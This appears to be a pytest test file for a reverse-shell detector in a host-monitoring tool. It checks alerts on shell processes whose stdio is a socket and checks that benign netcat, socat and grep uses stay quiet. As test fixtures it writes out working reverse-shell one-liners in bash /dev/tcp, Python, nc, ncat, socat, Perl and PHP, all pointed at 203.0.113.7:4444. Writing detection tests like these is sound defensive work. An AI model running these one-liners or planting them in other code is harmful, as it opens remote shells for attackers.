"""reverse_shell: sockets on a shell's stdio, /dev/tcp redirections and one-liners."""

from __future__ import annotations

import pytest
from detector_factories import alerts, dup2, execve, init, login_shell, proc, run, sec, sh_c

from vigil.detectors.reverse_shell import ReverseShellDetector
from vigil.events.model import Event, FdInfo
from vigil.priority import Priority


def webshell_parent():
    return proc("/usr/sbin/nginx", pid=101, uid=33, user="www-data", parent=init())


def test_bash_dev_tcp_one_liner_fires() -> None:
    sh = sh_c("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", parent=webshell_parent(), pid=600)
    dets = run(ReverseShellDetector(), [execve(sh)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.dev_tcp"]
    d = dets[0]
    assert d.entity.ip == "203.0.113.7" and d.data["port"] == 4444
    assert d.priority == Priority.CRITICAL and "T1059.004" in d.tags


def test_shell_whose_stdio_became_a_socket_through_dup2() -> None:
    bash = proc("/usr/bin/bash", pid=610, uid=33, parent=webshell_parent())
    dets = run(ReverseShellDetector(), [dup2(bash, 0, ts=sec(0)), dup2(bash, 1, ts=sec(0.01)),
                                        dup2(bash, 2, ts=sec(0.02))])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.socket_stdio"]
    assert dets[0].entity.ip == "203.0.113.7"


def test_python_pty_reverse_shell_is_one_detection() -> None:
    code = ("import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')")
    py = proc("/usr/bin/python3.11", "-c", code, pid=620, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(py), dup2(py, 0), dup2(py, 1)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner"]


def test_bash_dev_tcp_redirect_then_dup2s_and_exec_are_one_detection() -> None:
    """bash -c parses the redirect itself: dup2(s,1), dup2(s,2), dup2(1,0), exec bash -i."""
    bash = proc("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", pid=625,
                parent=login_shell())
    interactive = proc("/usr/bin/bash", "-i", pid=625, parent=login_shell())
    dets = run(ReverseShellDetector(), [
        execve(bash), dup2(bash, 1), dup2(bash, 2), dup2(bash, 0),
        execve(interactive, fd_types={0: "ipv4", 1: "ipv4", 2: "ipv4"})])
    assert [d.rule_id for d in dets] == ["reverse_shell.dev_tcp"]


def test_exec_with_socket_stdio_from_fd_table() -> None:
    bash = proc("/usr/bin/bash", "-i", pid=630, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(bash, fd_types={0: "ipv4", 1: "ipv4",
                                                               2: "ipv4"})])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.socket_stdio"]


@pytest.mark.parametrize("exe,args", [
    ("/usr/bin/nc.traditional", ("-e", "/bin/sh", "203.0.113.7", "4444")),
    ("/usr/bin/ncat", ("203.0.113.7", "4444", "--exec", "/bin/bash")),
    ("/usr/bin/socat", ("tcp:203.0.113.7:4444", "exec:/bin/bash,pty,stderr,setsid")),
    ("/usr/bin/perl", ("-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);'
                             'connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));'
                             'open(STDIN,">&S");exec("/bin/sh -i");')),
    ("/usr/bin/php8.2", ("-r", '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3");')),
])
def test_classic_one_liners(exe: str, args: tuple[str, ...]) -> None:
    p = proc(exe, *args, pid=640, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(p)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner"]


def test_benign_look_alikes() -> None:
    shell = login_shell()
    benign = [
        proc("/usr/bin/nc", "-z", "db", "5432", pid=650, parent=shell),
        proc("/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80", pid=651,
             parent=shell),
        proc("/usr/bin/grep", "bash -i >& /dev/tcp/", "notes.txt", pid=652, parent=shell),
        proc("/usr/bin/python3", "-c", "import socket; print(socket.gethostname())", pid=653,
             parent=shell),
    ]
    assert run(ReverseShellDetector(), [execve(p) for p in benign]) == []


def test_dev_tcp_port_probe_is_suppressed() -> None:
    probe = sh_c("until echo > /dev/tcp/db/5432; do sleep 1; done", parent=init(), pid=660)
    dets = run(ReverseShellDetector(), [execve(probe)])
    assert len(dets) == 1 and dets[0].suppressed.entry == "reverse_shell.port_probe=/dev/tcp"


def test_superserver_handing_socket_as_stdio_is_suppressed() -> None:
    xinetd = proc("/usr/sbin/xinetd", pid=670, parent=init())
    child = proc("/usr/sbin/in.tftpd", pid=671, parent=xinetd)
    dets = run(ReverseShellDetector(), [dup2(child, 0), dup2(child, 1)])
    assert len(dets) == 1 and dets[0].suppressed.entry == "reverse_shell.superservers=xinetd"


def test_single_stdio_socket_non_stdio_fd_or_unix_socket_is_not_reported() -> None:
    bash = proc("/usr/bin/bash", pid=680, parent=login_shell())
    unix = Event(type="dup2", res=0, proc=bash, fd=FdInfo(num=3, type="unix"))
    unix1 = Event(type="dup2", res=1, proc=bash, fd=FdInfo(num=3, type="unix"))
    assert run(ReverseShellDetector(), [dup2(bash, 1), dup2(bash, 5), unix, unix1]) == []


def test_close_then_dup_onto_stdio_counts_too() -> None:
    """`close(0); dup(s)` returns 0: the result is the new fd for plain dup as well."""
    bash = proc("/usr/bin/bash", pid=690, parent=login_shell())
    ev = [Event(type="dup", res=n, proc=bash, args={"fd": 3},
                fd=FdInfo(num=n, type="ipv4", rip="203.0.113.7", rport=443)) for n in (0, 1)]
    assert [d.rule_id for d in run(ReverseShellDetector(), ev)] == ["reverse_shell.socket_stdio"]
